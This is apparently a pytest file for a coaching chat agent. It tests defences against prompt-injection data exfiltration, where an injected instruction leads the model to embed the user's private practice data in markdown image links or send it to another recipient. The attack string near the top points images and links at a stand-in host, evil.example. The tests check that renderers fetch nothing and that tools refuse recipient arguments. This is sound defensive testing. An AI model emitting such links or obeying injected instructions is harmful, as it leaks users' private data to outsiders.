"""Data exfiltration, A59 and A36: an injected instruction makes the model write private words into a link, or send
them to another person.
"""

import pytest

from agent.coach.tools import CoachTools
from agent.tools.base import tools_of
from agent.tools.schema import BadArguments, fit
from channels.markdown.parse import parse
from channels.messages import OutboundPart
from channels.viewers.plain_renderer import PlainRenderer
from channels.web.page_files import POLICY
from channels.web.render import WebRenderer, to_html
from gateway.coach import writer
from gateway.delivery.splitter import split
from tests.fakes.practice_reader import connected_practice
from tests.fakes.takers import TAKERS, Taker
from tests.fakes.wires import WIRES, is_loud

HIDDEN = "https://evil.example/?q=you+practised+45+min"
ATTACK = f"Your week:\n\n![]({HIDDEN})\n\n![chart]({HIDDEN})\n\nSee [the chart]({HIDDEN}) or [example.org](https://evil.example/)."
PLATFORMS = pytest.mark.parametrize("taker", TAKERS, ids=lambda taker: taker.name)


@PLATFORMS
async def test_no_platform_fetches_it(taker: Taker):
    async with WIRES[taker.name]() as wire:
        (first,) = split("…", taker.renderer, taker.limits)
        (whole,) = split(ATTACK, taker.renderer, taker.limits)
        sent = OutboundPart(address=wire.address, rendered=whole.rendered, idem_key="key-1")
        waiting = OutboundPart(address=wire.address, rendered=first.rendered, idem_key="key-2")
        await wire.channel.send(sent)
        receipt = await wire.channel.send(waiting)
        await wire.channel.edit(sent, receipt.platform_id)
        assert [False, False] == [is_loud(one) for one in wire.seen()]
    read = taker.take(whole.rendered).text
    assert 3 == read.count(HIDDEN)
    assert "example.org (https://evil.example/)" in read


def test_our_own_views_fetch_nothing():
    html = to_html(WebRenderer().render(parse(ATTACK)))
    assert "<img" not in html
    assert 3 == html.count(f">{HIDDEN.replace('&', '&amp;')}</a>")
    assert 'href="https://evil.example/"' in html.split("example.org (")[1]
    assert {"default-src 'none'", "img-src 'self'", "connect-src 'self'"} <= set(POLICY.split("; "))
    assert 3 == PlainRenderer().render(parse(ATTACK)).text.count(HIDDEN)


ELSEWHERE = (
    "to",
    "chat",
    "channel",
    "account",
    "thread",
    "address",
    "recipient",
    "sender",
    "user",
    "user_id",
    "tenant",
)


def test_a36_no_tool_is_told_whom_it_speaks_to():
    with connected_practice() as practice:
        tools = tools_of(CoachTools(practice, writer))
    assert {"set_reminder", "plot_progress"} <= {tool.name for tool in tools}
    for tool in tools:
        assert set() == set(tool.arguments.model_fields) & set(ELSEWHERE), tool.name
        for word in ELSEWHERE:
            with pytest.raises(BadArguments, match=f"Unknown arguments: {word}"):
                fit({word: "telegram:main:999"}, tool.arguments)
